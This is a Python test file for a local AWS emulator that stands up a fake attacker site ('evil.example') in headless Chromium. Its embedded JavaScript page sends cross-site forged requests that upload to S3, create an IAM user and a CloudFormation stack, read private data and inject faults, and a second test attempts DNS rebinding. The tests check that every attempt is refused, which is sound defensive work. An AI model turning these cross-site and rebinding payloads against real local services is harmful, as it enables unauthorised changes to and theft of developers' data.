"""Attacks by a web page in a real browser on a localcloud on the same machine."""

import json
import os
import signal
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import boto3
import pytest
from botocore.auth import SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.config import Config
from botocore.credentials import Credentials

from localcloud.credentials.secret import DUMMY_KEY
from localcloud.faults.plan import FaultPlan
from localcloud.server.local_cloud import LocalCloud
from localcloud.server.request_filter import RequestFilter
from tests.support.packages import chromium, needs

PATIENCE_SECONDS = 180
SITE = "evil.example"
TEMPLATE = json.dumps({"Resources": {"Queue": {"Type": "AWS::SQS::Queue"}}})
PAGE = """<!DOCTYPE html><title>a page of another site</title><body><script>
const attacks = ATTACKS;
const report = (name, result) => fetch("/report", {method: "POST", body: JSON.stringify([name, result])});
function post(name, {url, fields, file}) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = name; form.target = name; form.method = "POST"; form.action = url;
    form.enctype = file ? "multipart/form-data" : "application/x-www-form-urlencoded";
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = key; input.value = value; form.append(input);
    }
    if (file) {
      const input = document.createElement("input"), content = new DataTransfer();
      content.items.add(new File([file], "code.zip"));
      input.type = "file"; input.name = "file"; input.files = content.files; form.append(input);
    }
    document.body.append(frame, form);
    frame.onload = () => done("submitted");
    setTimeout(done, 3000, "submitted, no page in answer");
    form.submit();
  });
}
async function call(name, {url, options}) {
  const answer = await fetch(url, options);
  return answer.type == "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
}
(async () => {
  for (const [name, attack] of Object.entries(attacks)) {
    let result;
    try { result = attack.options ? await call(name, attack) : await post(name, attack); }
    catch (error) { result = String(error); }
    await report(name, result);
  }
  await report("done", "");
})();
</script>"""

pytestmark = needs("chromium")


class Site:
    """The attacker's web site on its own port; `reports` contains the results of its page."""

    def __init__(self, page: str) -> None:
        site, self.reports, self.over = self, dict[str, str](), threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page.encode() if self.path == "/" else b"")

            def do_POST(self) -> None:
                name, result = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                site.reports[name] = result
                self._answer(b"")
                if name == "done":
                    site.over.set()

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                """Print nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)


@contextmanager
def browser(url: str, profile: Path) -> Iterator[None]:
    """Open an address in Chromium; every host name of the attacker resolves to this machine."""
    command = [
        chromium() or "", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--no-proxy-server",
        f"--user-data-dir={profile}", "--host-resolver-rules=MAP *.example 127.0.0.1", "--remote-debugging-port=0",
        "--disable-features=LocalNetworkAccessChecks", url,
    ]  # fmt: skip
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def presigned(cloud: LocalCloud, secret: str, service: str, path: str = "/") -> str:
    """Return a presigned URL for a form that a page posts."""
    request = AWSRequest(method="POST", url=f"{cloud.endpoint_url}{path}")
    SigV4QueryAuth(Credentials(DUMMY_KEY, secret), service, "us-east-1").add_auth(request)
    return str(request.url)


def attacks(cloud: LocalCloud, secret: str) -> dict[str, Any]:
    """Return all requests with which a page that knew `secret` could act as the developer."""
    keys: dict[str, Any] = {"aws_access_key_id": DUMMY_KEY, "aws_secret_access_key": secret}
    config = Config(signature_version="s3v4")
    s3 = boto3.client("s3", "us-east-1", endpoint_url=cloud.endpoint_url, config=config, **keys)
    put = s3.generate_presigned_url("put_object", Params={"Bucket": "mine", "Key": "put.zip"})
    get = s3.generate_presigned_url("get_object", Params={"Bucket": "mine", "Key": "private"})
    iam = boto3.client("iam", "us-east-1", endpoint_url=cloud.endpoint_url, **keys)
    user = iam.generate_presigned_url("create_user", Params={"UserName": "eve"}, HttpMethod="POST")
    create = {"Action": "CreateStack", "Version": "2010-05-15", "StackName": "eves", "TemplateBody": TEMPLATE}
    faults = json.dumps({"calls": [{"effect": "throttle", "share": 1}]})
    return {
        "upload": {"url": presigned(cloud, secret, "s3", "/mine"), "fields": {"key": "code.zip"}, "file": "PK"},
        "stack": {"url": presigned(cloud, secret, "cloudformation"), "fields": create},
        "user": {"url": user, "fields": {}},
        "put": {"url": put, "options": {"method": "PUT", "body": "PK"}},
        "read": {"url": get, "options": {}},
        "faults": {
            "url": presigned(cloud, secret, "localcloud", "/localcloud/faults"),
            "options": {"method": "POST", "mode": "no-cors", "body": faults},
        },
        "plain faults": {
            "url": f"{cloud.endpoint_url}/localcloud/faults",
            "options": {"method": "POST", "mode": "no-cors", "body": faults},
        },
    }


@pytest.fixture
def arrived(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record all requests with the status of their responses, because a browser that sends none proves nothing."""
    seen: list[str] = []
    ask = RequestFilter.__call__

    def noted(self: RequestFilter, environ: dict[str, Any], start_response: Any) -> Any:
        def start(status: str, *rest: Any) -> Any:
            seen.append(f"{environ['REQUEST_METHOD']} {environ['PATH_INFO']} {status.split(maxsplit=1)[0]}")
            return start_response(status, *rest)

        return ask(self, environ, start)

    monkeypatch.setattr(RequestFilter, "__call__", noted)
    return seen


@pytest.mark.parametrize("knows", ["a wrong secret", "the secret"])
def test_a_page_of_another_site_can_neither_change_nor_read_data(
    cloud: LocalCloud, client: Callable[..., Any], tmp_path: Path, arrived: list[str], knows: str
) -> None:
    client("s3").create_bucket(Bucket="mine")
    client("s3").put_object(Bucket="mine", Key="private", Body=b"private content")
    entries = len(cloud.record.entries())
    secret = cloud.secret if knows == "the secret" else "localcloud"
    tried = attacks(cloud, secret)
    site = Site(PAGE.replace("ATTACKS", json.dumps(tried)))
    arrived.clear()
    threading.Thread(target=site.server.serve_forever, daemon=True).start()
    try:
        with browser(f"http://{SITE}:{site.server.server_port}/", tmp_path / "profile"):
            assert site.over.wait(PATIENCE_SECONDS), site.reports
    finally:
        site.server.shutdown()
        site.server.server_close()
    assert set(site.reports) == {*tried, "done"}
    requests = ("POST /mine", "POST /", "OPTIONS /mine/put.zip", "GET /mine/private", "POST /localcloud/faults")
    assert {f"{request} 403" for request in requests} == {one for one in arrived if "favicon" not in one}
    assert [entry["action"] for entry in cloud.record.entries(after=entries)] == []
    assert cloud.faults.plan == FaultPlan()
    assert not [result for result in site.reports.values() if "private content" in result]


def test_a_page_cannot_read_data_through_dns_rebinding(cloud: LocalCloud, tmp_path: Path, arrived: list[str]) -> None:
    """DNS rebinding: the browser treats it as the same site, and sends neither Origin nor Sec-Fetch-Site."""
    address = f"http://rebound.example:{urlsplit(cloud.endpoint_url).port}"
    request = AWSRequest(method="GET", url=f"{address}/localcloud/status")
    SigV4QueryAuth(Credentials(DUMMY_KEY, cloud.secret), "localcloud", "us-east-1").add_auth(request)
    command = [
        chromium() or "", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server",
        f"--user-data-dir={tmp_path / 'profile'}", "--host-resolver-rules=MAP *.example 127.0.0.1", "--dump-dom",
        str(request.url),
    ]  # fmt: skip
    shown = subprocess.run(command, capture_output=True, text=True, timeout=PATIENCE_SECONDS, check=True).stdout
    assert "GET /localcloud/status 403" in arrived
    assert str(cloud.data_dir) not in shown
